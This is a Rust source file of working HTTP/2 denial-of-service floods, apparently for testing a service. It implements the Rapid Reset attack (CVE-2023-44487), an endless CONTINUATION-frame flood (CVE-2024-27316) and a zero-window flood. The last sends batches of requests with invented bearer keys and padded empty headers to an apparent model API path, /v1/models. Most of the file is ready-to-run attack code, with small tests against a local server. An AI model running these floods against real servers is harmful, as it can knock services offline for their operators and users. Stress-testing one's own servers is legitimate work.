//! Floods over HTTP/2 (RFC 9113), in frames that a correct client does not send.

use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// The connection preface, and a SETTINGS frame without a setting.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// `:method: GET`, `:scheme: http`, `:path: /`, `:authority: a`, as HPACK (RFC 7541).
const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
/// Size of the value of a literal, not indexed header `x`.
const FIELD_BYTES: usize = 100;
/// Headers in a frame.
const FIELDS: usize = 100;
/// The connection preface, and a SETTINGS frame that leaves no room for the body of an answer.
const WITHOUT_WINDOW: &[u8] =
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00";
/// Empty headers of a request whose answer is not read: they take most memory for their bytes.
const EMPTY_FIELDS: usize = 300;
/// Time in which a request with a valid key is answered.
const ANSWER_WAIT: Duration = Duration::from_secs(1);
/// Most frames of a head without an end: 10 GB.
const FRAMES_MAX: usize = 1_000_000;
/// Requests that are sent and cancelled in one write.
const BATCH: u32 = 100;
/// The largest stream id.
const STREAM_MAX: u32 = (1 << 31) - 1;

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Cancels each request as soon as it is sent (CVE-2023-44487).
///
/// # Errors
/// When the server ends the connection.
pub(crate) async fn rapid_reset(stream: &mut TcpStream) -> io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let flood = async {
        writer.write_all(PREFACE).await?;
        let mut id = 1;
        while id < STREAM_MAX - 2 * BATCH {
            let mut frames = Vec::new();
            for _ in 0..BATCH {
                frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, HEAD));
                frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
                id += 2;
            }
            writer.write_all(&frames).await?;
        }
        io::Result::Ok(())
    };
    tokio::try_join!(flood, until_closed(&mut reader)).map(drop)
}

/// Sends a head that has no end, in CONTINUATION frames (CVE-2024-27316 and others).
///
/// # Errors
/// When the server ends the connection.
pub(crate) async fn continuation(stream: &mut TcpStream) -> io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let flood = async {
        writer.write_all(PREFACE).await?;
        writer.write_all(&frame(HEADERS, END_STREAM, 1, HEAD)).await?;
        let mut field = vec![0x00, 0x01, b'x', FIELD_BYTES as u8];
        field.extend([b'y'; FIELD_BYTES]);
        let fields = field.repeat(FIELDS);
        for _ in 0..FRAMES_MAX {
            writer.write_all(&frame(CONTINUATION, 0, 1, &fields)).await?;
        }
        io::Result::Ok(())
    };
    tokio::try_join!(flood, until_closed(&mut reader)).map(drop)
}

/// Sends [`BATCH`] requests with invented keys at once, whose answers have no room to be sent; before them, one with
/// `key`.
///
/// # Errors
/// When the server ends the connection.
pub(crate) async fn unread(stream: &mut TcpStream, key: Option<&str>) -> io::Result<()> {
    stream.write_all(WITHOUT_WINDOW).await?;
    if let Some(key) = key {
        stream.write_all(&list_of_models(1, key, 0)).await?;
        tokio::time::sleep(ANSWER_WAIT).await;
        stream.write_all(&frame(RST_STREAM, 0, 1, &CANCEL)).await?;
    }
    let requests = (1..=BATCH).flat_map(|number| {
        let key = format!("vk_live_{number:064x}");
        list_of_models(2 * number + 1, &key, EMPTY_FIELDS)
    });
    stream.write_all(&requests.collect::<Vec<u8>>()).await?;
    until_closed(stream).await
}

/// A request for the list of models with a key and a number of empty headers.
fn list_of_models(stream: u32, key: &str, empty_fields: usize) -> Vec<u8> {
    let mut head = HEAD[..2].to_vec();
    let bearer = format!("Bearer {key}");
    for (name, value) in [
        (":path", "/v1/models"),
        (":authority", "a"),
        ("authorization", &bearer),
    ] {
        head.extend([0, name.len() as u8]);
        head.extend(name.as_bytes());
        head.push(value.len() as u8);
        head.extend(value.as_bytes());
    }
    head.extend([0, 1, b'e', 0].repeat(empty_fields));
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)
}

/// Reads until the server closes the connection, which is an error, so that the sending half ends too.
async fn until_closed(reader: &mut (impl tokio::io::AsyncRead + Unpin)) -> io::Result<()> {
    let mut some = [0; 4096];
    while reader.read(&mut some).await? > 0 {}
    Err(io::ErrorKind::UnexpectedEof.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream() {
        assert_eq!(
            frame(RST_STREAM, 0, 3, &CANCEL),
            [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]
        );
    }

    /// An HTTP/2 server of the library accepts the heads.
    #[tokio::test]
    async fn the_heads_are_requests() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let server = tokio::spawn(async move {
            let (stream, _) = listener.accept().await.unwrap();
            let mut connection = h2::server::handshake(stream).await.unwrap();
            let mut paths = Vec::new();
            for _ in 0..2 {
                let (request, _) = connection.accept().await.unwrap().unwrap();
                paths.push(request.uri().path().to_owned());
            }
            paths
        });
        let mut stream = TcpStream::connect(address).await.unwrap();
        let head = frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD);
        let frames = [WITHOUT_WINDOW, &head, &list_of_models(3, "vk_live_1", 2)].concat();
        stream.write_all(&frames).await.unwrap();
        assert_eq!(server.await.unwrap(), ["/", "/v1/models"]);
    }
}
